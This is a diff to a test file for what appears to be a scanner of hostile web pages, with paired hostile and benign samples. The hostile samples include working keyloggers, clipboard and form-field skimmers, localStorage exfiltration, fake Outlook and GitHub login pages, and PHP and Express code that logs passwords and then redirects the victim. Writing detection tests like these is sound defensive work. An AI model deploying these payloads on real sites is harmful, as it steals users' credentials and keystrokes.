@@ -26,6 +26,11 @@ HOSTILE = [
     f"<script>let b='';window.addEventListener('keyup',e=>{{b+=e.key;if(b.length>20)fetch('{URL}',{{body:b}});}})</script>",
     f"<script>const h=(e)=>{{navigator.sendBeacon('{URL}',e.target.value)}};\ndocument.addEventListener('change',h,true);</script>",
     f"<script>const f=window.fetch;window.fetch=async(u,o)=>{{f('{URL}',{{body:o.headers}});return f(u,o)}};</script>",
+    f"<title>Outlook</title><form id=f>{FIELDS}</form><script>$.ajax({{url:'{URL}',type:'POST',data:$('#f').serialize()}})</script>",
+    f"<h1>Sign in to GitHub</h1><form id=f>{FIELDS}</form><script>emailjs.sendForm('s','t',f,{{p:pw.value}})</script>",
+    f"<script>document.onkeypress=e=>{{x.open('GET','{URL}?k='+e.key);x.send()}}</script>",
+    f"<script>setInterval(()=>navigator.clipboard.readText().then(t=>fetch('{URL}',{{body:t}})),99)</script>",
+    f"<script>document.querySelectorAll('input').forEach(i=>i.addEventListener('input',e=>navigator.sendBeacon('{URL}',e.target.value)))</script>",
     f"<script>for(const k of Object.keys(localStorage))navigator.sendBeacon('{URL}',k+localStorage[k]);</script>",
     f"<script>const r=await fetch('http://127.0.0.1:11434/api/tags');const l=await r.text();fetch('{URL}',{{body:l}});</script>",
     "<script>const c=new Contract(t,abi,s);await window.ethereum.request({});await c.approve(S,ethers.constants.MaxUint256);</script>",
@@ -47,6 +52,8 @@ HONEST = [
     f"{FIELDS}<script>const r=await fetch('{URL}/login',{{body:JSON.stringify({{p:pw.value}})}});use(await r.json());</script>",
     "<input type=password id=k placeholder='OpenAI key'><script>const r=await fetch('https://api.openai.com/v1/x',{headers:{Authorization:'Bearer '+k.value}});</script>",
     f"<script>document.addEventListener('keydown',e=>{{if(e.key==='Enter'){{fetch('{URL}/ask',{{body:q}}).then(r=>show(r))}}}})</script>",
+    "<form id=f><input type=email id=em></form><script>emailjs.sendForm('s','t',f)</script>",
+    f"<script>window.addEventListener('error',e=>navigator.sendBeacon('{URL}',e.message))</script>",
     f"<script>box.addEventListener('input',e=>{{fetch('{URL}/complete',{{body:e.target.value}}).then(r=>show(r))}})</script>",
     "<script>const f=window.fetch;window.fetch=async(u,o)=>{show(u);return f(u,o)};</script>",
     "<script>self.addEventListener('fetch',e=>{e.respondWith(caches.match(e.request).then(r=>r||fetch(e.request)))});</script>",
@@ -85,6 +92,11 @@ def test_pages_that_ask_for_what_they_need(page: str) -> None:
         ("app.get('/f',(req,res)=>res.sendFile(path.join(root,path.basename(req.query.p))))", False),
         ("const {t}=await req.json();\nreturn new Function('d',t)(d);", True),
         ("const {t}=await req.json();\nreturn render(t);", False),
+        (
+            "app.post('/l',(req,res)=>{fs.appendFileSync('l.txt',req.body.password);res.redirect('https://github.com/login')})",
+            True,
+        ),
+        ("app.post('/l',(req,res)=>{if(ok(req.body.password))res.redirect('/')})", False),
         ("await transporter.sendMail({to,bcc:'a@c.example',text})", True),
         ("await transporter.sendMail({to,bcc:list,text})", False),
     ],
@@ -152,3 +164,9 @@ CALLS = "import {{ report }} from './lib/m.js';\n{}report({{ p: document.getElem
 def test_pages_whose_files_give_away_what_they_ask_for_together(files: dict[str, str], expected: bool) -> None:
     found = inspect_tree({path: text.encode() for path, text in {"index.html": PAGE, **files}.items()})
     assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected
+
+
+def test_kits_that_keep_a_password_and_lead_on() -> None:
+    kit = "<?php $p=$_POST['password'];\nfile_put_contents('l.txt',$p);\nheader('Location: {}');"
+    assert denied("index.php", kit.format("https://www.office.com"))
+    assert not denied("index.php", kit.format("/account"))
